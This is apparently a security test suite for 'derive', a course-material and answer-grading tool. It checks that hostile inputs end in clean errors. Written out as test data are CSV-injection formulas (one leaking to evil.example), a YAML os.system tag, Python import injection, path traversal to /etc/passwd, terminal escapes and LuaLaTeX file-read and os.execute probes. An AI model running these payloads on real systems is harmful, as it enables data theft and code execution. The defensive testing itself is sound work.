"""Hostile and broken input never takes the work down (issue 12).

Every input here was reproduced as an attack or a careless mistake: YAML that
recurses, numbers that do not fit, control characters, files that are not
files, a class with one broken answers file, spreadsheet and terminal
injection, course chapters outside the course, output paths that are devices,
LaTeX that would loop or read files. Each must end in derive's own error
(file, line, column; exit 2) or a complete result, never a traceback, never a
hang, never code run. References are independent of the code under test: the
exit codes and messages of the contract, a real spreadsheet rule (OWASP), a
real LuaLaTeX and pdftotext, the process table, /proc.
"""

from __future__ import annotations

import csv
import io
import json
import re
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from conftest import IN_CI, ROOT, network_specs, run_process

SPEC = ROOT / "specs" / "two-layer-relu.yaml"
TINY = """\
kind: network
title: {title}
input: x
output: y
layers:
  - {{units: 1, activation: relu, params: theta, pre: z, post: h}}
  - {{units: 1, activation: identity, params: phi}}
"""


def _tool(name: str) -> bool:
    if shutil.which(name):
        return True
    if IN_CI:
        pytest.fail(f"{name} is required in CI")
    pytest.skip(f"{name} is not installed")


def _no_traceback(result) -> None:
    text = (getattr(result, "stderr", "") or "") + (getattr(result, "output", "") or "")
    assert "Traceback" not in text, text


# --------------------------------------------------------------------------- the YAML loader


def _load(text: str):
    from derive.core.yamlload import load_text

    return load_text(text, "s.yaml")


def _refused(text: str):
    from derive.errors import SpecError

    with pytest.raises(SpecError) as info:
        _load(text)
    return info.value


@pytest.mark.parametrize("text", [
    "theta_11: " + "[" * 350 + "]" * 350,
    "a: " + "{a: " * 400 + "1" + "}" * 400,
    "student: " + "{a: " * 400 + "1" + "}" * 400,
    "".join("  " * i + "- \n" for i in range(1000)) + "  " * 1000 + "- 1",
    "x:\n" + "".join("  " * i + "- \n" for i in range(1, 200)),
])
def test_deep_nesting_is_refused_before_the_parser_recurses(text):
    error = _refused(text)
    assert "nested more than" in error.show() and error.location.line is not None


@pytest.mark.parametrize("text, words", [
    ("units: " + "9" * 5000, "a number of 5,000 characters"),
    ("seed: " + "1" * 400, "a number of 400 characters"),
    ("alpha: 0." + "1" * 400, "a number of"),
    ("units: !!int abc", "!!int; expected a whole number"),
    ("units: !!float abc", "!!float; expected a number"),
    ("units: !!bool maybe", "!!bool; expected true or false"),
    ("alpha: .nan", "not a finite number"),
    ("alpha: .inf", "not a finite number"),
    ("alpha: -.inf", "not a finite number"),
    ('title: "a\\ud800b"', "U+D800"),
    ('student: "Eve \\ud800"', "U+D800"),
    ('title: "a\\eb"', "U+001B"),
    ('title: "a\\0b"', "U+0000"),
    ('title: "a\\x7fb"', "U+007F"),
    ('title: "a\\u202eb"', "U+202E"),
    ("title: a\x1bb", "U+001B"),
    ("title: a\x7fb", "U+007F"),
    ("title: a\u202eb", "U+202E"),
    ("title: a\x9bb", "U+009B"),
])
def test_values_that_do_not_fit_are_located(text, words):
    error = _refused(text)
    assert words in error.show(), error.show()
    assert error.location.line == 1 and error.location.column is not None


def test_kind_that_is_not_a_word_is_refused_without_a_traceback(tmp_path):
    from derive.errors import SpecError
    from derive.pipeline import kind_of

    for value in ("[network]", "{a: 1}", "3"):
        with pytest.raises(SpecError, match="unknown kind"):
            kind_of(_load(f"kind: {value}"))


def test_special_files_are_not_read(tmp_path):
    from derive.errors import SpecError
    from derive.core.yamlload import load_file

    zero = tmp_path / "zero.yaml"
    zero.symlink_to("/dev/zero")
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    started = time.monotonic()
    for path in (zero, fifo, tmp_path):
        with pytest.raises(SpecError, match="not a regular file"):
            load_file(path)
    assert time.monotonic() - started < 2  # the FIFO did not block


def test_a_huge_sparse_file_is_refused_from_its_size_without_reading_it(tmp_path):
    import resource

    from derive.errors import SpecError
    from derive.core.yamlload import load_file

    path = tmp_path / "sparse.yaml"
    with open(path, "wb") as f:
        f.truncate(1_500_000_000)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(SpecError, match="specs are limited to 1,000,000"):
        load_file(path)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000  # kB: nothing was read


def test_answer_files_have_their_own_small_limit(tmp_path):
    from derive.grading.answers import read_sheet
    from derive.errors import SpecError

    path = tmp_path / "keys.yaml"
    path.write_text("answers:\n" + "".join(f"  k{i}: a\n" for i in range(80_000)), encoding="utf-8")
    started = time.monotonic()
    with pytest.raises(SpecError, match="answer files are limited to"):
        read_sheet(str(path))
    assert time.monotonic() - started < 0.5


def test_titles_are_bounded_and_typesettable():
    from derive.errors import SpecError

    for title, words in [("x" * 201, "at most 200"), ('"a 😀 b"', "U+1F600"), ('"中文"', "U+4E2D"),
                         ('"مرحبا"', "U+0645")]:
        with pytest.raises(SpecError) as info:
            _load(f"title: {title}").title()
        assert words in info.value.show()
    assert _load('title: "Сеть — θ, ψ, φ: „ok” «да» ≤ ∑ → €"').title()


# --------------------------------------------------------------------------- error messages do not echo files


def test_error_messages_do_not_echo_a_file_that_is_not_a_spec(tmp_path, cli):
    secret = "root:*:20228:0:99999:7:::"
    for i, text in enumerate([f"{secret}: 1\n", f'{{"kind": "{secret}"}}\n', f"kind: network\nactivation: {secret}\n"]):
        path = tmp_path / f"f{i}.yaml"
        path.write_text(text, encoding="utf-8")
        result = cli(path)
        assert result.exit_code == 2 and "20228" not in result.output, result.output


# --------------------------------------------------------------------------- derive check: a class with broken files


GOOD_STUDENTS = 12


@pytest.fixture(scope="module")
def klass(tmp_path_factory):
    """A folder of good answers files and hostile ones, as one class hands them in."""
    from derive.grading.check import Engine
    from derive.render.printing import ascii

    folder = tmp_path_factory.mktemp("class")
    grader = Engine(str(SPEC)).grader(None)[0]
    right = {k: ascii(e.unfolded) for k, e in grader.expected.items()}
    good = []
    for i in range(GOOD_STUDENTS):
        path = folder / f"good{i:02}.yaml"
        answers = dict(right) if i % 2 else dict(right, theta_11="x")
        path.write_text(json.dumps({"student": f"S{i}", "answers": answers}), encoding="utf-8")
        good.append(path)
    bad = {
        "deep.yaml": "answers:\n  theta_11: " + "[" * 350 + "]" * 350 + "\n",
        "deepname.yaml": "student: " + "{a: " * 400 + "1" + "}" * 400 + "\nanswers: {}\n",
        "digits.yaml": "student: " + "9" * 5000 + "\nanswers: {theta_11: x}\n",
        "seed.yaml": "seed: " + "9" * 5000 + "\nanswers: {theta_11: x}\n",
        "surrogate.yaml": 'student: "Eve \\ud800"\nanswers: {theta_11: x}\n',
        "surrogate_answer.yaml": 'answers: {theta_11: "\\ud800x"}\n',
        "esc.yaml": "student: Mallory\x1b[2J\nanswers: {theta_11: x}\n",
        "binary.yaml": "answers: {theta_11: x}\n\x00\x01\x02",
        "latin1.yaml": "student: J\xe9r\xf4me\n",
        "notyaml.yaml": "answers: [unclosed\n",
        "alias.yaml": "a: &x [1]\nanswers: *x\n",
        "tag.yaml": "answers: !!python/object/apply:os.system [touch /tmp/pwned]\n",
        "keys.yaml": "answers:\n" + "".join(f"  k{i}: a\n" for i in range(20_000)),
    }
    broken = []
    for name, text in bad.items():
        path = folder / name
        path.write_bytes(text.encode("utf-8") if name != "latin1.yaml" else text.encode("latin-1"))
        broken.append(path)
    zero = folder / "zero.yaml"
    zero.symlink_to("/dev/zero")
    fifo = folder / "fifo.yaml"
    os.mkfifo(fifo)
    broken += [zero, fifo, folder / "missing.yaml"]
    return good, broken


@pytest.mark.parametrize("fmt", ["csv", "json", "text"])
def test_one_bad_file_is_that_files_error_line_and_the_class_report_is_complete(klass, fmt):
    good, broken = klass
    files = sorted(good + broken, key=lambda p: p.name)
    started = time.monotonic()
    result = run_process("check", SPEC, *files, "--format", fmt, "--jobs", "2", timeout=300)
    assert time.monotonic() - started < 120
    assert result.returncode == 2, result.stderr
    _no_traceback(result)
    errors = [line for line in result.stderr.splitlines() if line.startswith("derive: ")]
    assert len(errors) == len(broken), result.stderr
    for path in broken:
        assert sum(path.name in line for line in errors) == 1, (path.name, errors)
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(result.stdout)))
        assert [Path(r["file"]).name for r in rows] == [p.name for p in sorted(good, key=lambda p: p.name)]
        assert {r["score"] for r in rows} == {"12", "13"}
    elif fmt == "json":
        items = json.loads(result.stdout)
        assert len(items) == len(files)
        assert sum("error" in item for item in items) == len(broken)
        assert sum(item.get("total") == 13 for item in items) == GOOD_STUDENTS
    else:
        assert result.stdout.count(" of 13 correct") == GOOD_STUDENTS
        assert f"({GOOD_STUDENTS} students)" in result.stdout


def test_the_batch_does_not_depend_on_the_number_of_workers(klass):
    good, broken = klass
    files = sorted(good + broken[:6], key=lambda p: p.name)
    one = run_process("check", SPEC, *files, "--format", "json", "--jobs", "1", timeout=300)
    two = run_process("check", SPEC, *files, "--format", "json", "--jobs", "2", timeout=300)
    assert one.returncode == two.returncode == 2
    assert one.stdout == two.stdout


# --------------------------------------------------------------------------- output channels


def _sheet(path: Path, student: str, answers: dict | None = None) -> Path:
    path.write_text(json.dumps({"student": student, "answers": answers or {"theta_11": "x"}}), encoding="utf-8")
    return path


CSV_ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_csv_cells_never_start_a_formula(tmp_path, cli, monkeypatch):
    """OWASP CSV injection: a cell starting with = + - @ tab or CR is prefixed with an apostrophe."""
    monkeypatch.chdir(tmp_path)
    files = [_sheet(Path(f"s{i}.yaml"), name) for i, name in enumerate(CSV_ATTACKS)]
    files += [_sheet(Path(name), "Alice") for name in ("=cmd.yaml", "+x.yaml", "-y.yaml", "@z.yaml", "\t=t.yaml")]
    result = cli("check", "--format", "csv", "--", SPEC, *files)
    rows = list(csv.reader(io.StringIO(result.stdout)))[1:]
    assert len(rows) == len(files), result.output
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert sorted(row[1] for row in rows) == sorted(["'" + a for a in CSV_ATTACKS] + ["Alice"] * 5)
    assert {row[0] for row in rows} >= {"'=cmd.yaml", "'+x.yaml", "'-y.yaml", "'@z.yaml"}


def test_a_carriage_return_never_reaches_a_report(tmp_path, cli):
    result = cli("check", SPEC, _sheet(tmp_path / "cr.yaml", "\r=1+1"))
    assert result.exit_code == 2 and "U+000D" in result.output


def test_the_terminal_sees_control_characters_escaped(tmp_path, cli):
    forged = _sheet(tmp_path / "a.yaml", "Eve\nFAKE LINE: Carol: 13 of 13 correct")
    odd = _sheet(tmp_path / "b\x1b]0;owned\x07\u202e.yaml", "Bob")
    other = _sheet(tmp_path / "c.yaml", "Carol")
    result = cli("check", SPEC, forged, odd, other)
    text = result.output
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "\\x1b]0;owned\\x07\\u202e" in text
    assert not any(line.startswith("FAKE LINE") for line in text.splitlines())
    assert "Eve\\nFAKE LINE" in text


def test_error_lines_escape_file_names(tmp_path, cli):
    bad = tmp_path / "x\x1b[2J\nFAKE: ok.yaml"
    bad.write_text("answers: [", encoding="utf-8")
    result = cli("check", SPEC, bad, _sheet(tmp_path / "g.yaml", "G"))
    assert result.exit_code == 2
    assert "\x1b" not in result.output and "\\x1b[2J\\nFAKE: ok.yaml" in result.output


def test_terminal_and_csv_escapes():
    from derive.core.safetext import csv_cell, message, terminal

    assert terminal("a\x1b[2Jb\x00c\x7f\u202ed\ud800\n") == "a\\x1b[2Jb\\x00c\\x7f\\u202ed\\ud800\\n"
    assert message("line 1\nline\t2\x1b") == "line 1\nline\t2\\x1b"
    assert [csv_cell(c) for c in ("=1", "+1", "-1", "@A", "\t1", "\r1", "ok", 3)] == \
        ["'=1", "'+1", "'-1", "'@A", "'\t1", "'\r1", "ok", 3]


def test_the_quiz_sheet_escapes_the_title(tmp_path, cli):
    spec = tmp_path / "q.yaml"
    spec.write_text(TINY.format(title='"<script>alert(1)</script> # head $x$ *em*"'), encoding="utf-8")
    result = cli("quiz", spec, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    from markdown_it import MarkdownIt

    sheet = (tmp_path / "out" / "q.md").read_text(encoding="utf-8")
    tokens = MarkdownIt("commonmark").parse(sheet)
    assert not any(t.type.startswith("html") for t in tokens)
    assert sum(t.type == "heading_open" and t.tag == "h1" for t in tokens) == 1
    rendered = MarkdownIt("commonmark").render(sheet)
    assert "&lt;script&gt;alert(1)&lt;/script&gt; # head $x$ *em*" in rendered


# --------------------------------------------------------------------------- course chapters


def _course(folder: Path, chapter: str) -> Path:
    course = folder / "course.yaml"
    course.write_text(f"kind: course\ntitle: C\nchapters:\n  - {json.dumps(chapter)}\n", encoding="utf-8")
    return course


@pytest.fixture
def private(tmp_path):
    outside = tmp_path / "private"
    outside.mkdir()
    exam = outside / "exam.yaml"
    exam.write_text(TINY.format(title="SECRET-EXAM"), encoding="utf-8")
    secret = outside / "shadow"
    secret.write_text("root:*:20228:0:99999:7:::\n", encoding="utf-8")
    course = tmp_path / "course"
    course.mkdir()
    (course / "intro.yaml").write_text(TINY.format(title="Intro"), encoding="utf-8")
    (course / "link.yaml").symlink_to(exam)
    (course / "shadow.yaml").symlink_to(secret)
    return course, exam, secret


@pytest.mark.parametrize("chapter", ["../private/exam.yaml", "ABS_EXAM", "ABS_SHADOW", "link.yaml", "shadow.yaml",
                                     "/etc/passwd", "sub/../../private/exam.yaml", "../private/shadow"])
def test_chapters_stay_inside_the_course_folder(private, cli, chapter):
    course, exam, secret = private
    chapter = {"ABS_EXAM": str(exam), "ABS_SHADOW": str(secret)}.get(chapter, chapter)
    result = cli(_course(course, chapter), "--format", "json")
    assert result.exit_code == 2, result.output
    assert "SECRET-EXAM" not in result.output and "20228" not in result.output and "root:" not in result.output
    assert "course.yaml:4:" in result.output


def test_a_chapter_inside_the_folder_still_builds(private, cli):
    course, _, _ = private
    result = cli(_course(course, "intro.yaml"), "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["chapters"][0]["derivation"]["kind"] == "network"


def test_build_skips_links_out_of_its_folders(private, tmp_path):
    course, _, _ = private
    (course / "course.yaml").unlink(missing_ok=True)
    result = run_process("build", course, "--format", "json", "--lang", "en", "--out", tmp_path / "out")
    _no_traceback(result)
    assert "SECRET" not in result.stderr and "20228" not in result.stderr
    assert "link.yaml: it links to a file outside" in result.stderr
    assert not (tmp_path / "out" / "en" / "link.json").exists()
    assert (tmp_path / "out" / "en" / "intro.json").is_file()


# --------------------------------------------------------------------------- writing files


def test_output_onto_special_files_and_missing_folders_is_refused(tmp_path, cli):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for target, words in [("/dev/null", "not a regular file"), (fifo, "not a regular file"),
                          (tmp_path, "is a directory"), (tmp_path / "missing" / "dir" / "out.json", "does not exist")]:
        for fmt in ("json", "tex", "md"):
            result = cli(SPEC, "--format", fmt, "--no-figures", "-o", target)
            assert result.exit_code == 2 and words in result.output, (target, fmt, result.output)
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


def test_a_planted_link_is_never_followed(tmp_path, cli):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    out = tmp_path / "notes.md"
    for name in (".notes.svg.part", ".notes.md.part", f"notes.md.tmp{os.getpid()}", ".notes.md.1.part"):
        (tmp_path / name).symlink_to(victim)
    result = cli(SPEC, "-o", out)
    assert result.exit_code == 0, result.output
    assert victim.read_text(encoding="utf-8") == "precious"
    assert out.read_text(encoding="utf-8").startswith("# ")
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part") and not p.is_symlink()]


def test_write_file_replaces_atomically_with_unpredictable_names(tmp_path, monkeypatch):
    from derive.core import safewrite

    names = []
    real = safewrite.tempfile.mkstemp

    def spy(**kwargs):
        fd, name = real(**kwargs)
        names.append(name)
        return fd, name

    monkeypatch.setattr(safewrite.tempfile, "mkstemp", spy)
    for _ in range(2):
        safewrite.write_file(tmp_path / "a.txt", "x")
    assert len(set(names)) == 2 and all(Path(n).parent == tmp_path for n in names)
    assert (tmp_path / "a.txt").read_text() == "x"


@pytest.fixture
def read_only(tmp_path):
    """A read-only folder: a read-only tmpfs when root can mount one, else a folder without write permission."""
    folder = tmp_path / "ro"
    folder.mkdir()
    if os.geteuid() == 0:
        mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(folder)],
                                 capture_output=True)
        if mounted.returncode != 0:
            pytest.skip("root, but cannot mount a read-only tmpfs here")
        yield folder
        subprocess.run(["umount", str(folder)], capture_output=True)
        return
    folder.chmod(0o555)
    yield folder
    folder.chmod(0o755)


def test_a_read_only_file_system_is_a_clear_error(read_only, cli):
    result = cli(SPEC, "--format", "json", "-o", read_only / "out.json")
    assert result.exit_code == 2 and "cannot write the file" in result.output, result.output
    result = run_process("build", SPEC, "--format", "json,md", "--lang", "en,ru", "--out", read_only / "out")
    _no_traceback(result)
    assert result.returncode == 2
    job_errors = [line for line in result.stderr.splitlines() if line.startswith("derive build: ") and "out/" in line]
    assert len(job_errors) >= 4, result.stderr
    assert "0 built" in result.stderr and "4 failed" in result.stderr


def test_build_refuses_two_specs_with_one_output(tmp_path):
    for week in ("week1", "week2"):
        (tmp_path / week).mkdir()
        (tmp_path / week / "intro.yaml").write_text(TINY.format(title=week), encoding="utf-8")
    result = run_process("build", tmp_path, "--format", "md", "--lang", "en", "--out", tmp_path / "out")
    assert result.returncode == 2
    assert "week1/intro.yaml and" in result.stderr and "week2/intro.yaml would both be written" in result.stderr
    assert not (tmp_path / "out" / "en" / "intro.md").exists()


# --------------------------------------------------------------------------- budgets: time and memory


X_TOWER = "kind: graph\nnodes:\n  f: x^x^x\noutput: f\nvalues: {x: 9}\n"


def test_a_derivation_over_its_cpu_budget_ends_with_a_clear_message(tmp_path):
    spec = tmp_path / "tower.yaml"
    spec.write_text(X_TOWER, encoding="utf-8")
    env = dict(os.environ, DERIVE_CPU_SECONDS="3")
    started = time.monotonic()
    result = subprocess.run([sys.executable, "-m", "derive", str(spec), "--format", "json"], capture_output=True,
                            text=True, env=env, timeout=120, cwd=ROOT)
    assert time.monotonic() - started < 60
    assert result.returncode == 2, result.stderr
    assert "CPU time" in result.stderr and "make it smaller" in result.stderr
    _no_traceback(result)


def test_bounded_items_fail_alone():
    from derive.core.bounded import Limits, map_bounded

    def work(x):
        if x == "loop":
            while True:
                pass
        if x == "memory":
            return len(bytearray(2**31))
        if x == "bug":
            raise ZeroDivisionError("oops")
        return x * 2

    items = ["a", "loop", "b", "memory", "c", "bug", "d"]
    out = map_bounded(work, items, jobs=2, limits=Limits(1, 1024 * 2**20), groups=lambda x: 0)
    assert [o.value for o in out] == ["aa", None, "bb", None, "cc", None, "dd"]
    assert "CPU time" in out[1].error and out[1].exit_code == 2 and out[1].exceeded
    assert "memory" in out[3].error and out[3].exceeded
    assert "bug in derive" in out[5].error and out[5].exit_code == 1 and not out[5].exceeded


def test_answer_checks_are_timed_in_cpu_time_not_wall_time():
    """A busy machine slows the wall clock, not a process's CPU time: sleeping is not work."""
    from derive.grading.grader import _Timeout, time_limit

    with time_limit(0.2):
        time.sleep(0.5)
    with pytest.raises(_Timeout):
        with time_limit(0.2):
            while True:
                pass


def test_the_verdict_on_a_deep_answer_is_decided_by_a_bound_not_a_clock(monkeypatch):
    import derive.grading.grader as grading
    from derive.grading.check import Engine

    grader = Engine(str(SPEC)).grader(None)[0]
    deep = "tanh(" * 8 + "x" + ")" * 8
    verdicts = []
    for limit in (1.0, 1000.0):
        monkeypatch.setattr(grading, "TIME_LIMIT", limit)
        grader.memo.clear()
        verdicts.append(grader.check("theta_11", deep))
    assert [v.verdict for v in verdicts] == ["invalid", "invalid"]
    assert [v.findings[0].code for v in verdicts] == ["parse.functions_nested"] * 2
    assert grader.check("theta_11", "tanh(" * 6 + "x" + ")" * 6).verdict == "incorrect"


def test_check_answers_for_the_web_is_bounded_and_complete():
    from derive.grading.check import check_answers

    out = check_answers(str(SPEC), {"theta_11": "[" * 5000, "phi_1": "g_1", "psi_11": "tanh(" * 9 + "x" + ")" * 9,
                                    "phi_0": "__import__('os').system('id')"}, lang="ru")
    verdicts = {a["key"]: a["verdict"] for a in out["answers"]}
    assert out["total"] == 13 and len(verdicts) == 13
    assert verdicts["theta_11"] == verdicts["psi_11"] == verdicts["phi_0"] == "invalid"
    assert verdicts["phi_1"] == "correct"
    assert all(a["feedback"] for a in out["answers"] if a["verdict"] == "invalid")
    from derive.grading.check import Engine

    engine = Engine(str(SPEC))
    again = check_answers(str(SPEC), {"phi_1": "g_1", "theta_11": "[" * 400}, lang="en", engine=engine)
    assert again["score"] == 1 and again["total"] == 13
    # A key that names no question is refused on its own (issue 13), the rest still graded.
    odd = check_answers(str(SPEC), {"nonsense": "x", "phi_1": "g_1"}, engine=engine)
    assert odd["score"] == 1 and [r["key"] for r in odd["refused"]] == ["nonsense"]
    assert "not a question here" in odd["refused"][0]["feedback"]


def _descendants_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            environ = (entry / "environ").read_bytes()
        except OSError:
            continue
        if marker.encode() in environ:
            found.append(int(entry.name))
    return found


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux's")
def test_a_killed_build_leaves_no_orphans(tmp_path):
    for i in range(2):
        (tmp_path / f"t{i}.yaml").write_text(X_TOWER, encoding="utf-8")
    marker = f"DERIVE_ORPHAN_TEST={uuid.uuid4().hex}"
    env = dict(os.environ, DERIVE_ORPHAN_TEST=marker.split("=")[1])
    proc = subprocess.Popen([sys.executable, "-m", "derive", "build", str(tmp_path), "--format", "json",
                             "--lang", "en,ru", "--jobs", "2", "--out", str(tmp_path / "out")],
                            env=env, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while len(_descendants_with(marker)) < 3 and time.monotonic() < deadline:
        time.sleep(0.2)
    assert len(_descendants_with(marker)) >= 3  # derive, its command child, workers
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 10
    while _descendants_with(marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _descendants_with(marker) == []


# --------------------------------------------------------------------------- input at fault, not a bug in derive


def test_a_huge_slope_is_the_specs_fault(tmp_path, cli):
    spec = tmp_path / "a.yaml"
    spec.write_text(TINY.format(title="t").replace("activation: relu", "activation: leaky_relu, alpha: 1.0e+300"),
                    encoding="utf-8")
    result = cli(spec, "--format", "json")
    assert result.exit_code == 2 and "bug" not in result.output and "a.yaml:6:" in result.output


def test_lost_precision_is_not_called_a_bug(tmp_path, cli):
    spec = tmp_path / "chain.yaml"
    nodes = ["  n1: x*x + x"] + [f"  n{i}: n{i - 1}*n{i - 1} + x" for i in range(2, 41)]
    spec.write_text("kind: graph\nnodes:\n" + "\n".join(nodes) + "\noutput: n40\n", encoding="utf-8")
    result = cli(spec, "--format", "json")
    assert result.exit_code in (0, 2), result.output
    assert "bug in derive" not in result.output


def test_a_layer_too_wide_to_typeset_is_refused_before_latex(tmp_path, cli):
    spec = tmp_path / "wide.yaml"
    spec.write_text(TINY.format(title="w").replace("units: 1, activation: relu", "units: 256, activation: relu"),
                    encoding="utf-8")
    result = cli(spec, "--format", "tex")
    assert result.exit_code == 2 and "256 units" in result.output and "view: vector" in result.output
    assert cli(spec, "--format", "json").exit_code == 0


# --------------------------------------------------------------------------- LaTeX


def _pdf_text(path: Path) -> str:
    _tool("pdftotext")
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout


LUA_PROBES = r"""\documentclass{article}
\begin{document}
A:\directlua{local f = io.open('CANARY') if f then tex.print(f:read('*l')) else tex.print('BLOCKED') end}
B:\directlua{local ok, r = pcall(function() for l in io.lines('CANARY') do return l end end)
  tex.print(ok and tostring(r) or 'BLOCKED')}
C:\directlua{local ok, r = pcall(dofile, 'CANARY') tex.print(ok and 'RAN' or 'BLOCKED')}
D:\directlua{local f = io.open('OUTSIDE', 'w') if f then f:write('x') f:close() tex.print('WROTE') else
  tex.print('BLOCKED') end}
E:\directlua{local f = io.open('/etc/passwd') tex.print(f and 'OPENED' or 'BLOCKED')}
F:\directlua{local ok = pcall(os.execute, 'touch OUTSIDE') tex.print('DONE')}
\end{document}
"""


def test_lua_cannot_read_or_write_files_outside_the_work_folder(tmp_path):
    _tool("lualatex")
    from derive.render.pdf import compile_pdf

    canary = tmp_path / "canary.txt"
    canary.write_text("CANARY-SECRET-7781\n", encoding="utf-8")
    outside = tmp_path / "outside.txt"
    tex = LUA_PROBES.replace("CANARY", str(canary)).replace("OUTSIDE", str(outside))
    text = _pdf_text(compile_pdf(tex, tmp_path / "probe.pdf"))
    assert "CANARY-SECRET" not in text and "OPENED" not in text and "RAN" not in text and "WROTE" not in text
    assert text.count("BLOCKED") == 5, text
    assert not outside.exists()


def test_a_latex_run_past_its_timeout_is_killed_with_all_its_processes(tmp_path, monkeypatch):
    _tool("lualatex")
    from derive.render import pdf

    marker = uuid.uuid4().hex
    monkeypatch.setenv("DERIVE_LATEX_TEST", marker)
    monkeypatch.setattr(pdf, "TIMEOUT", 3)
    started = time.monotonic()
    with pytest.raises(pdf.LatexFailed, match="did not finish within 3 s"):
        pdf.compile_pdf(r"\documentclass{article}\begin{document}\def\x{\x}\x\end{document}", tmp_path / "l.pdf")
    assert time.monotonic() - started < 30
    time.sleep(0.5)
    assert [p for p in _descendants_with(marker) if p != os.getpid()] == []
    assert not (tmp_path / "l.pdf").exists()


def test_titles_are_typeset_literally(tmp_path, cli):
    _tool("lualatex")
    spec = tmp_path / "lig.yaml"
    spec.write_text(TINY.format(title='"a--b c---d ,,e,, <<f>> !`g"'), encoding="utf-8")
    result = cli(spec, "--format", "pdf", "-o", tmp_path / "lig.pdf")
    assert result.exit_code == 0, result.output
    first = _pdf_text(tmp_path / "lig.pdf").strip().splitlines()[0]
    assert "a--b c---d ,,e,, <<f>> !`g" in first, first


def test_the_pdf_title_metadata_stays_short():
    from derive.render import tex

    document = tex.document("notes", "en", title="T", body="", colours=set(), plain_title="x" * 5000)
    line = next(line for line in document.splitlines() if "pdftitle" in line)
    assert len(line) < tex.PDF_TITLE + 60


@pytest.mark.parametrize("char", ["\x7f", "\x1b", "\x00", "\u202e"])
def test_control_characters_in_a_title_are_refused_with_the_specs_location(tmp_path, cli, char):
    spec = tmp_path / "c.yaml"
    spec.write_bytes(TINY.format(title=f'"a{char}b"').encode("utf-8"))
    result = cli(spec, "--format", "tex")
    assert result.exit_code == 2 and "c.yaml:2:" in result.output, result.output


# --------------------------------------------------------------------------- fuzzing: only derive's own errors, in bounded time

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

FUZZ = settings(max_examples=150, deadline=2000, suppress_health_check=[HealthCheck.too_slow], derandomize=True)
YAML_TOKENS = ["kind:", " network", "\n", "  ", "- ", "[", "]", "{", "}", ": ", ",", "&a ", "*a", "!!int ", "!!str ",
               "!!python/object ", "'", '"', "\\u", "\\x", "\\e", "#", "|", ">", "?", "%YAML 1.1", "---", "...",
               "9" * 50, ".nan", "-.inf", "1e999", "0x1F", "0o7", "~", "null", "yes", "\t", "\x1b", "\u202e", "é",
               "layers:", "units:", "title:", "\ud800"]
MATH_TOKENS = ["x", "theta_11", "h_1", "(", ")", "[", "]", "{", "}", "+", "-", "*", "/", "^", "**", " ", "_", ".",
               "I", "1", "0", "9" * 40, "e", "exp", "log", "tanh", "sigma", "relu", "max", ",", "|", ">", ">=", "<=",
               "\\frac", "\\theta", "\\cdot", "\\left(", "\\right)", "\\mathbb{I}", "\\sqrt", "'", "=", "⊙", "ᵀ",
               "\\input{/etc/passwd}", "__import__", "lambda", "\x00", "\ud800", "\u202e", "1e9999"]


def _soup(tokens):
    return st.lists(st.sampled_from(tokens), max_size=60).map("".join)


@FUZZ
@given(st.one_of(st.text(max_size=300), _soup(YAML_TOKENS)))
def test_fuzz_the_spec_loader(text):
    from derive.errors import SpecError
    from derive.pipeline import kind_of

    try:
        doc = _load(text)
        kind, module = kind_of(doc)
        if kind != "course":
            module.parse(doc)
    except SpecError as exc:
        exc.show().encode("utf-8")  # printable: no lone surrogates reach the terminal


@FUZZ
@given(st.one_of(st.text(max_size=200), _soup(MATH_TOKENS)))
def test_fuzz_the_answer_grammar(text):
    from derive.core.parse import ParseError, parse_math

    try:
        parse_math(text)
    except ParseError as exc:
        str(exc).encode("utf-8", errors="strict") if "\ud800" not in text else None


_ESCAPED = re.compile(r"\\(?:textbackslash|textasciitilde|textasciicircum|textless|textgreater|textbar|"
                      r"textasciigrave|textquotedbl|kern0pt)\{\}|\\[{}$&#%_]")


@FUZZ
@given(st.text(max_size=300))
def test_fuzz_the_latex_escaper(text):
    from derive.render.tex import escape

    rest = _ESCAPED.sub("", escape(text))
    if "~" in rest:  # a tie is what a no-break space (U+00A0) is written as; a typed ~ is never one
        assert rest.count("~") == text.count("\u00a0"), rest
        rest = rest.replace("~", "")
    assert not set(rest) & set("\\{}$&#%_~^<>|`\""), rest
    for pair in ("--", ",,", "''", "``", "<<", ">>", "!`", "?`"):
        assert pair not in escape(text).replace("\\kern0pt{}", "\x00"), (pair, text)


def test_the_escaper_is_literal_in_a_real_latex(tmp_path):
    _tool("lualatex")
    from derive.render.pdf import compile_pdf
    from derive.render.tex import escape

    samples = [r"\input{/etc/passwd}", r"\def\x{\x}\x", "%comment", "a_b^c", "{}$&#~", r"\\ \newline",
               "--- ,, << >> '' ``", "\\catcode`\\@=11", "^^5c^^5c", r"\directlua{os.exit()}"]
    body = "\n\n".join(f"S{i}: {escape(s)}" for i, s in enumerate(samples))
